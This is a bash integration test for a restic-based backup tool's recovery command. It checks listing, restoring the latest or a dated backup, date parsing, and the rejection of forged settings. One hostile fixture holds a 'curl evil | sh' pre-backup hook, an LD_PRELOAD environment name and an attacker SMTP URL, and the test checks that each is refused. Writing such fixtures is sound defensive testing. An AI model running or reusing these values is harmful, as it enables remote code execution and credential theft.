#!/usr/bin/env bash
# SPDX-License-Identifier: GPL-3.0-or-later
# Recovery on a new machine (README, "Recovery on a new machine"), with a real
# local restic repository shared by two projects and the Django demo:
# - every backup carries settings.json (named in SHA256SUMS and the report;
#   no secret, no login, no hook), in every format (recover: carried);
# - in an empty folder with a new HOME, `offsite list --repository R` lists
#   both projects with their dates and writes nothing (recover: look);
# - `recover --repository R --project P` brings back the newest backup: the
#   database (dumpdata equal), the media, the settings (auto, retention,
#   off-site, notify) and no secret; Django serves the data; the RTO and the
#   number of commands are printed (recover: latest);
# - `recover --at` between two backups takes the older; `pull --at` with a
#   date alone, with what `list` prints, with Persian digits and a Solar Hijri
#   date; a time before every backup is refused (recover: at);
# - a hostile settings.json (unknown keys, bad values, hooks.*,
#   offsite.password_env=PATH, not JSON, huge, other shape) is refused key by
#   key or whole, with one line each, and never crashes (recover: hostile);
# - recover refuses a folder whose catalog has backups (recover: refusals).
. "$(dirname "$0")/../lib/lib.sh"
. "$(dirname "$0")/../lib/lib-lifecycle.sh"
. "$(dirname "$0")/../lib/lib-offsite.sh"
if ! "$PY" -c 'import django' >/dev/null 2>&1; then
    echo "recover: skipped: $PY cannot import django" >&2
    exit 77
fi
export PYTHONDONTWRITEBYTECODE=1
unset POSHTIBAN_DATABASE
smtp_secret='smtp-Hq4wP8nX2vR7'
# resum DIR: settings.json's entry in the report, then SHA256SUMS, made to match the files again.
resum() {
    "$PY" - "$1" <<'EOF'
import hashlib, json, os, sys
p = sys.argv[1]
def digest(path):
    return hashlib.sha256(open(os.path.join(p, path), "rb").read()).hexdigest()
r = json.load(open(os.path.join(p, "backup_report.json")))
if os.path.exists(os.path.join(p, "settings.json")):
    for f in r["files"]:
        if f["path"] == "settings.json":
            f["size"], f["sha256"] = os.path.getsize(os.path.join(p, "settings.json")), digest("settings.json")
else:
    r["files"] = [f for f in r["files"] if f["path"] != "settings.json"]
json.dump(r, open(os.path.join(p, "backup_report.json"), "w"), indent=2)
lines = []
for line in open(os.path.join(p, "SHA256SUMS")):
    path = line.rstrip("\n").split("  ", 1)[1]
    if path == "settings.json" and not os.path.exists(os.path.join(p, path)):
        continue
    if path in ("settings.json", "backup_report.json"):
        line = digest(path) + "  " + path + "\n"
    lines.append(line)
open(os.path.join(p, "SHA256SUMS"), "w").writelines(lines)
EOF
}
export POSHTIBAN_SMTP_PASSWORD=$smtp_secret
repo=$scratch/repo

# --- carried: project A, the demo, with its settings and two backups a few days apart
a=$scratch/a
demo_project "$a"
cd "$a" || exit 1
pt_ok settings set offsite.repository "$repo"
pt_ok offsite init
for kv in auto.enabled=true auto.interval_hours=6 retention.max_backups=7 \
    retention.max_age_days=90 offsite.enabled=true offsite.keep_daily=3 \
    notify.email.enabled=true notify.email.to=ops@example.com \
    notify.smtp.url=smtp://mail.example.com:587 notify.smtp.user=alice \
    metrics.textfile=$scratch/a.prom; do
    pt_ok settings set "${kv%%=*}" "${kv#*=}"
done
POSHTIBAN_TEST_NOW=2026-09-01T10:00:00Z new_backup
older=$name
check "carried: settings.json is in the backup" test -f "$path/settings.json"
expect_eq "carried: SHA256SUMS covers settings.json" 1 "$(grep -c '  settings.json$' "$path/SHA256SUMS")"
expect_eq "carried: the report names settings.json" True \
    "$(json_eval 'any(f["path"] == "settings.json" for f in d["files"])' <"$path/backup_report.json")"
expect_eq "carried: the settings as set" "True 7 ops@example.com 3" \
    "$(json_eval '" ".join(str(d["settings"][k]) for k in ("auto.enabled", "retention.max_backups", "notify.email.to", "offsite.keep_daily"))' <"$path/settings.json")"
expect_eq "carried: no hook, no password key, no metrics file" "[]" \
    "$(json_eval '[k for k in d["settings"] if k.startswith("hooks.") or k.endswith("password") or k == "metrics.textfile"]' <"$path/settings.json")"
# The Django data change between the two backups.
"$PY" - "$a/db.sqlite3" <<'EOF' || fail "carried: changing the demo's data"
import sqlite3, sys
db = sqlite3.connect(sys.argv[1])
db.execute("UPDATE realestate_project SET name = name || ' (نسخهٔ دوم)' WHERE id = (SELECT min(id) FROM realestate_project)")
db.commit()
EOF
POSHTIBAN_TEST_NOW=2026-09-05T10:00:00Z new_backup
newer=$name
expect_eq "carried: offsite.enabled pushed both" 2 "$(rx snapshots --json | json_eval 'len(d)')"
project_a=$(rx snapshots --json | json_eval '[t[8:] for t in d[0]["tags"] if t.startswith("project:")][0]')
# zip and tar.zst carry it too, checked in the archive's SHA256SUMS.
pt_ok settings set offsite.enabled false
for fmt in zip tar.zst; do
    POSHTIBAN_TEST_NOW=2026-09-06T10:00:00Z new_backup --format "$fmt" --name "fmt_${fmt%.*}"
    unpack_backup "$path" "$scratch/unpacked-$fmt"
    check "carried: $fmt holds settings.json" test -f "$scratch/unpacked-$fmt/$name/settings.json"
    expect_eq "carried: $fmt's SHA256SUMS covers it" 1 "$(grep -c '  settings.json$' "$scratch/unpacked-$fmt/$name/SHA256SUMS")"
    pt_ok delete "$name" --yes
done
pt_ok settings set offsite.enabled true
# A login in the repository string never reaches a backup.
pt_ok settings set offsite.repository "rest:https://alice:hunter2-login@backup.example.com/repo/"
pt_ok settings set offsite.after_backup false
POSHTIBAN_TEST_NOW=2026-09-06T11:00:00Z new_backup --name with_login
expect_eq "carried: a repository with a login is left out" False \
    "$(json_eval '"offsite.repository" in d["settings"]' <"$path/settings.json")"
pt_ok delete with_login --yes
pt_ok settings set offsite.repository "$repo"
pt_ok settings set offsite.after_backup true
# Old backups, made before settings.json, still verify.
old=$scratch/old
make_project "$old"
run_pt -C "$old" create --json </dev/null
oldpath=$(echo "$out" | json_eval 'd["path"]')
chmod u+w "$oldpath" "$oldpath/SHA256SUMS" "$oldpath/backup_report.json"
rm -f "$oldpath/settings.json"
resum "$oldpath"
run_pt -C "$old" verify latest </dev/null
expect_eq "carried: a backup without settings.json verifies ($err)" 0 "$status"
run_pt -C "$old" restore latest --yes </dev/null
expect_eq "carried: and restores ($err)" 0 "$status"

# Project B shares the repository.
b=$scratch/b
make_project "$b"
run_pt -C "$b" settings set offsite.repository "$repo" </dev/null
run_pt -C "$b" offsite init </dev/null
POSHTIBAN_TEST_NOW=2026-09-03T08:30:00Z run_pt -C "$b" create </dev/null
run_pt -C "$b" push </dev/null
expect_eq "carried: B pushed ($err)" 0 "$status"

# --- look: an empty folder, a new HOME
look=$scratch/look
mkdir -p "$look" "$scratch/home-look"
HOME=$scratch/home-look run_pt -C "$look" offsite list --repository "$repo" </dev/null
expect_eq "look: offsite list in an empty folder ($err)" 0 "$status"
for want in "Project $project_a: 2 off-site copies" "$older" "$newer" "2026-09-01 10:00" "2026-09-05 10:00" "2026-09-03 08:30"; do
    case $out in *"$want"*) ;; *) fail "look: offsite list shows [$want]: [$out]" ;; esac
done
HOME=$scratch/home-look run_pt -C "$look" offsite list --repository "$repo" --json </dev/null
expect_eq "look: two projects, 2 and 1 snapshots" "2 [1, 2]" \
    "$(echo "$out" | json_eval 'str(d["total"]) + " " + str(sorted(p["total"] for p in d["projects"]))')"
expect_eq "look: A's snapshots, newest first, with date, size and kind" "$newer 2026-09-05T10:00:00Z manual True" \
    "$(echo "$out" | json_eval '" ".join(str(x) for x in [[p for p in d["projects"] if p["project"] == "'"$project_a"'"][0]["snapshots"][0][k] for k in ("name", "time", "kind")]) + " " + str([p for p in d["projects"] if p["project"] == "'"$project_a"'"][0]["snapshots"][0]["size_bytes"] > 0)')"
expect_eq "look: listing wrote nothing in the folder" "" "$(ls -A "$look")"
expect_eq "look: listing wrote nothing in HOME" "" "$(ls -A "$scratch/home-look")"
# With a catalog, today's shape: this project's snapshots alone.
pt_ok offsite list --json
expect_eq "look: with a catalog, this project alone" "$project_a 2" \
    "$(echo "$out" | json_eval 'd["project"] + " " + str(d["total"])')"

# --- latest: recover in an empty folder with a new HOME
r1=$scratch/r1
mkdir -p "$r1" "$scratch/home-r1"
HOME=$scratch/home-r1 run_pt -C "$r1" recover --repository "$repo" </dev/null
expect_eq "latest: two projects in the repository: exit" 2 "$status"
case $err in *"--project"*) ;; *) fail "latest: says which --project to give: [$err]" ;; esac
start=$(date +%s.%N)
HOME=$scratch/home-r1 run_pt -C "$r1" recover --repository "$repo" --project "$project_a" </dev/null
end=$(date +%s.%N)
expect_eq "latest: recover ($err)" 0 "$status"
case $out in *"Fetched $newer"*"auto.enabled = true"*"Restored $newer"*) ;; *) fail "latest: says what it fetched, took and restored: [$out]" ;; esac
dumpdata "$a" "$scratch/orig.json"
dumpdata "$r1" "$scratch/back.json"
"$PY" "$SOURCE_ROOT/tests/integration/lib/compare_dumps.py" --label "latest: dumpdata after recover" \
    "$scratch/orig.json" "$scratch/back.json" || fail "latest: the recovered data differ"
expect_eq "latest: the media are the same" "$(tree_state "$a/media")" "$(tree_state "$r1/media")"
cd "$r1" || exit 1
for kv in auto.enabled=true auto.interval_hours=6 retention.max_backups=7 retention.max_age_days=90 \
    offsite.enabled=true offsite.keep_daily=3 notify.email.enabled=true \
    notify.email.to=ops@example.com notify.smtp.url=smtp://mail.example.com:587 \
    notify.smtp.user=alice "offsite.repository=$repo"; do
    pt_ok settings get "${kv%%=*}"
    expect_eq "latest: setting ${kv%%=*} came back" "${kv#*=}" "$out"
done
if grep -rqa --exclude-dir=.poshtiban -e "$password" -e "$smtp_secret" -e hunter2 "$r1" "$a/backups"; then
    fail "latest: a secret is in a backup or the recovered project"
fi
# Django serves the recovered data: the admin lists the projects, with the renamed one.
DEMO_DATABASE=$r1/db.sqlite3 DEMO_MEDIA=$r1/media DJANGO_SETTINGS_MODULE=demo.settings \
    "$PY" - "$demo" <<'EOF' >"$scratch/serve.out" 2>&1 || fail "latest: Django does not serve the data: $(tail -3 "$scratch/serve.out")"
import os, sys
sys.path.insert(0, sys.argv[1])
import django
django.setup()
from django.contrib.auth.models import User
from django.test import Client
from realestate.models import Project
names = list(Project.objects.values_list("name", flat=True))
assert names and any("(نسخهٔ دوم)" in n for n in names), names
for p in Project.objects.exclude(cover=""):
    assert os.path.isfile(p.cover.path), p.cover.path
client = Client()
client.force_login(User.objects.create_superuser("recovery-check", "r@example.com", "x"))
page = client.get("/admin/realestate/project/", HTTP_HOST="localhost")
assert page.status_code == 200, page.status_code
body = page.content.decode()
assert all(n in body for n in names[:3]), "the admin list lacks the project names"
print("served", len(names))
EOF
rto=$("$PY" -c 'import sys; print("%.1f" % (float(sys.argv[2]) - float(sys.argv[1])))' "$start" "$end")
echo "recover: RTO ${rto} s with 1 command (recover), after 1 look (offsite list)" >&2
cd "$scratch" || exit 1

# --- at: between the two backups, the older
r2=$scratch/r2
mkdir -p "$r2"
HOME=$scratch/home-r2 run_pt -C "$r2" recover --repository "$repo" --project "$project_a" --at 2026-09-03T00:00:00Z </dev/null
expect_eq "at: recover --at between the two ($err)" 0 "$status"
case $out in *"Restored the state of "*"(backup $older)"*) ;; *) fail "at: restores the older: [$out]" ;; esac
run_pt -C "$r2" list --json </dev/null
expect_eq "at: only the older is here" "$older" "$(echo "$out" | json_eval '" ".join(b["name"] for b in d["backups"])')"
name_of_first=$(sqlite3 "$r2/db.sqlite3" 'SELECT name FROM realestate_project ORDER BY id LIMIT 1')
case $name_of_first in *"(نسخهٔ دوم)"*) fail "at: the database is the newer one" ;; esac
# pull --at with the forms people copy: a date alone, what list prints, Persian.
for pair in "2026-09-04=o" "2026-09-05 09:59=o" "2026-09-05T09:59:59=o" "2026-09-05T13:29+03:30=o" \
    "۱۴۰۵/۰۶/۱۳=o" "۱۴۰۵/۰۶/۱۴ ۱۰:۰۰=n" "2026-09-05 10:00=n" "2026-09-05T10:00:00Z=n" "2026-09-05=n"; do
    at=${pair%=*}
    case ${pair##*=} in n) want=$newer ;; *) want=$older ;; esac
    d=$scratch/pull-$RANDOM
    mkdir -p "$d"
    run_pt -C "$d" pull --at "$at" --repository "$repo" --project "$project_a" --json </dev/null
    expect_eq "at: pull --at '$at' ($err)" "$want" "$(echo "$out" | json_eval 'd["name"]' 2>/dev/null)"
done
d=$scratch/pull-early
mkdir -p "$d"
run_pt -C "$d" pull --at 2026-08-31 --repository "$repo" --project "$project_a" </dev/null
expect_eq "at: before every backup: exit" 2 "$status"
case $err in *"at or before 2026-08-31T23:59:59Z"*) ;; *) fail "at: says no backup at or before: [$err]" ;; esac
for bad in yesterday 2026-13-01 "2026-09-05 25:00" "" "2026-09-05T10:00:00Zjunk"; do
    run_pt -C "$d" pull --at "$bad" --repository "$repo" </dev/null
    expect_eq "at: --at '$bad' is bad usage" 2 "$status"
    case $err in *"--at takes a time"*) ;; *) fail "at: --at '$bad' says what it takes: [$err]" ;; esac
done
run_pt -C "$d" pull latest --at 2026-09-04 --repository "$repo" </dev/null
expect_eq "at: a name and --at" 2 "$status"

# --- hostile: a settings.json from someone who can write to the repository
# One project whose backups carry forged settings.json files, each pushed.
h=$scratch/hostile
make_project "$h"
run_pt -C "$h" settings set offsite.repository "$scratch/hrepo" </dev/null
run_pt -C "$h" offsite init </dev/null
hday=0
# hostile_push NAME JSON-TEXT: a backup of that project, on a day of its own, carrying this settings.json.
hostile_push() {
    hday=$((hday + 1))
    POSHTIBAN_TEST_NOW=$(printf '2026-10-%02dT12:00:00Z' "$hday") run_pt -C "$h" create --json --name "$1" </dev/null
    local p
    p=$(echo "$out" | json_eval 'd["path"]')
    chmod u+w "$p" "$p/settings.json" "$p/SHA256SUMS" "$p/backup_report.json"
    printf '%s' "$2" >"$p/settings.json"
    resum "$p"
    run_pt -C "$h" verify "$1" </dev/null
    expect_eq "hostile $1: the forged backup verifies ($err)" 0 "$status"
    run_pt -C "$h" push "$1" </dev/null
    expect_eq "hostile $1: pushed ($err)" 0 "$status"
    hostile_at=$(printf '2026-10-%02d' "$hday")
}
# hostile_recover NAME: recover it into a new folder; sets out, err, status and dir.
hostile_recover() {
    dir=$scratch/hr-$1
    mkdir -p "$dir"
    run_pt -C "$dir" recover --repository "$scratch/hrepo" --at "$hostile_at" </dev/null
}
hostile_push keys '{"format_version": 1, "settings": {"hooks.pre_backup": "curl evil | sh", "nonsense.key": 1, "retention.max_backups": -5, "auto.enabled": "maybe", "offsite.password_env": "PATH", "notify.smtp.password_env": "LD_PRELOAD", "notify.email.to": "not an address", "auto.interval_hours": [1], "notify.smtp.url": "smtp://u:p@evil.example.com", "metrics.textfile": "/root/evil.prom", "retention.max_age_days": 30, "ui.language": "fa"}}'
hostile_recover keys
expect_eq "hostile keys: recover still works ($err)" 0 "$status"
for k in hooks.pre_backup nonsense.key retention.max_backups auto.enabled offsite.password_env notify.smtp.password_env notify.email.to auto.interval_hours notify.smtp.url metrics.textfile; do
    expect_eq "hostile keys: one line refuses $k" 1 "$(echo "$err" | grep -c "setting $k from")"
done
case $out in *"retention.max_age_days = 30"*"ui.language = fa"*) ;; *) fail "hostile keys: the good keys are taken: [$out]" ;; esac
for kv in offsite.password_env=POSHTIBAN_RESTIC_PASSWORD retention.max_backups=10 auto.enabled=false retention.max_age_days=30; do
    run_pt -C "$dir" settings get "${kv%%=*}" </dev/null
    expect_eq "hostile keys: ${kv%%=*} after" "${kv#*=}" "$out"
done
big=$("$PY" -c 'import json; print(json.dumps({"format_version": 1, "settings": {"notify.email.to": "a@example.com", "pad": "x" * 200000}}))')
for case_ in "notjson:{not json" "shape:[1,2,3]" "version:{\"format_version\": 99, \"settings\": {}}" "huge:$big" "dupes:{\"format_version\":1,\"settings\":{\"auto.enabled\":true,\"auto.enabled\":false}}"; do
    n=${case_%%:*}
    hostile_push "$n" "${case_#*:}"
    hostile_recover "$n"
    expect_eq "hostile $n: recover still restores ($err)" 0 "$status"
    expect_eq "hostile $n: one line refuses the whole file" 1 "$(echo "$err" | grep -c "the settings of $n were not taken")"
    run_pt -C "$dir" settings get auto.enabled </dev/null
    expect_eq "hostile $n: settings stay the defaults" false "$out"
done

# --- refusals: a folder with backups
run_pt -C "$r1" recover --repository "$repo" --project "$project_a" </dev/null
expect_eq "refusals: recover where backups are: exit" 2 "$status"
case $err in *"has backups already"*) ;; *) fail "refusals: says why: [$err]" ;; esac
run_pt -C "$r1" recover </dev/null
expect_eq "refusals: recover without --repository" 2 "$status"
finish
